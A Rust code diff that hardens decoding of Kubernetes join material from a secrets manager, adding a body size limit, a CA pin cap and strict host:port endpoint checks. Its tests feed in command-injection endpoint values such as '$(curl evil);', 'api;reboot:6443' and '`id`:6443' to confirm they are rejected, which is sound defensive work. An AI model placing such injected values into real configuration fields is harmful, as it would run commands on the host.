@@ -82,6 +82,8 @@ pub enum Malformed {
     },
     #[error("the secret version has no SecretString (binary secret?)")]
     NotAString,
+    #[error("the body is {bytes} bytes; real join material is under 1 KiB and at most {limit} bytes are read")]
+    TooLarge { bytes: usize, limit: usize },
 }
 
 /// Join material failures, each naming the secret or parameter involved.
@@ -232,6 +234,18 @@ pub fn is_token(s: &str) -> bool {
 /// Whether `s` has the shape of a certificate key (64 lowercase hex digits).
 pub fn is_certificate_key(s: &str) -> bool {
     s.len() == 2 * CERTIFICATE_KEY_BYTES && is_lower_hex(s)
+}
+
+/// Largest secret body read: real material is about 400 bytes (Secrets
+/// Manager allows 64 KiB); anything bigger is refused before parsing.
+pub const MAX_BODY_BYTES: usize = 8 * 1024;
+/// More CA pins than any CA rotation needs.
+pub const MAX_CA_PINS: usize = 16;
+
+/// Whether `s` is an API server endpoint `host:port` (DNS name or IP
+/// literal, port 1-65535): nothing else may reach kubeadm's configuration.
+pub fn is_endpoint(s: &str) -> bool {
+    s.len() <= 261 && crate::config::value::split_host_port(s).is_some()
 }
 
 /// Whether `s` has the shape of a CA pin, `sha256:` and 64 lowercase hex digits.
@@ -427,11 +441,11 @@ impl JoinMaterial {
                 reason: reason.into(),
             })
         };
-        if self.endpoint.trim().is_empty() {
-            return invalid("the endpoint is empty");
+        if !is_endpoint(&self.endpoint) {
+            return invalid("the endpoint is not host:port");
         }
-        if self.ca_cert_hashes.is_empty() {
-            return invalid("there is no CA pin");
+        if self.ca_cert_hashes.is_empty() || self.ca_cert_hashes.len() > MAX_CA_PINS {
+            return invalid("there is no CA pin, or more than 16");
         }
         if !self.ca_cert_hashes.iter().all(|h| is_ca_cert_hash(h)) {
             return invalid("a CA pin is not sha256:<64 hex digits>");
@@ -528,6 +542,12 @@ pub fn encode_wire(material: &JoinMaterial) -> Result<Secret<String>, Error> {
 /// Parses a Secrets Manager body. Errors say what is wrong and where, never
 /// what the body contains.
 pub fn decode_wire(body: &str) -> Result<JoinMaterial, Malformed> {
+    if body.len() > MAX_BODY_BYTES {
+        return Err(Malformed::TooLarge {
+            bytes: body.len(),
+            limit: MAX_BODY_BYTES,
+        });
+    }
     let version: WireVersion = serde_json::from_str(body).map_err(|e| json_error(&e))?;
     if version.format != u64::from(WIRE_FORMAT) {
         return Err(Malformed::Format {
@@ -546,14 +566,20 @@ pub fn decode_wire(body: &str) -> Result<JoinMaterial, Malformed> {
     {
         return Err(field("certificate_key", "64 lowercase hex digits or null"));
     }
-    if wire.ca_cert_hashes.is_empty() || !wire.ca_cert_hashes.iter().all(|h| is_ca_cert_hash(h)) {
+    if wire.ca_cert_hashes.is_empty()
+        || wire.ca_cert_hashes.len() > MAX_CA_PINS
+        || !wire.ca_cert_hashes.iter().all(|h| is_ca_cert_hash(h))
+    {
         return Err(field(
             "ca_cert_hashes",
-            "a non-empty list of sha256:<64 hex digits>",
+            "a list of 1 to 16 sha256:<64 hex digits>",
         ));
     }
-    if wire.endpoint.trim().is_empty() {
-        return Err(field("endpoint", "host:port"));
+    if !is_endpoint(&wire.endpoint) {
+        return Err(field(
+            "endpoint",
+            "host:port (a DNS name or IP address, port 1-65535)",
+        ));
     }
     if wire.certificate_key.is_some() != wire.certs_expire_at.is_some() {
         return Err(field(
@@ -697,9 +723,15 @@ impl JoinStore {
         &self,
         registry: &Registry<S>,
     ) -> Result<Option<JoinMaterial>, Error> {
-        let Some(pointer) = registry.join_pointer().await? else {
-            return Ok(None);
-        };
+        match registry.join_pointer().await? {
+            Some(pointer) => self.read(&pointer).await.map(Some),
+            None => Ok(None),
+        }
+    }
+
+    /// The material `pointer` names, checked against it (a secret version
+    /// that disagrees with its pointer is refused).
+    pub async fn read(&self, pointer: &JoinPointer) -> Result<JoinMaterial, Error> {
         let version = pointer.secret_version.as_str();
         let out = self
             .secrets
@@ -729,7 +761,7 @@ impl JoinStore {
         if material.ca_cert_hashes != pointer.ca_cert_hashes {
             return Err(mismatch("CA pins"));
         }
-        Ok(Some(material))
+        Ok(material)
     }
 
     /// Writes a new secret version and returns its VersionId.
@@ -1138,6 +1170,11 @@ tPZ7
                 "no pins",
                 good.replace(&format!("[\"{RSA_CA_HASH}\"]"), "[]"),
             ),
+            (
+                "shell in the endpoint",
+                good.replace("\"endpoint\":\"", "\"endpoint\":\"$(curl evil);"),
+            ),
+            ("oversized", format!("{good}{}", " ".repeat(MAX_BODY_BYTES))),
         ];
         for (name, body) in cases {
             let e = decode_wire(&body).expect_err(name);
@@ -1154,6 +1191,29 @@ tPZ7
             decode_wire(&good.replace("\"format\":1", "\"format\":2")).expect_err("newer"),
             Malformed::Format { found: 2 }
         );
+        for endpoint in [
+            "api:6443 --v=9",
+            "api;reboot:6443",
+            "api:99999",
+            "`id`:6443",
+            "",
+        ] {
+            let body = good.replace("api.example.internal:6443", endpoint);
+            assert!(
+                matches!(
+                    decode_wire(&body),
+                    Err(Malformed::Field {
+                        field: "endpoint",
+                        ..
+                    })
+                ),
+                "{endpoint:?}"
+            );
+        }
+        assert!(matches!(
+            decode_wire(&" ".repeat(MAX_BODY_BYTES + 1)),
+            Err(Malformed::TooLarge { .. })
+        ));
     }
 
     #[test]
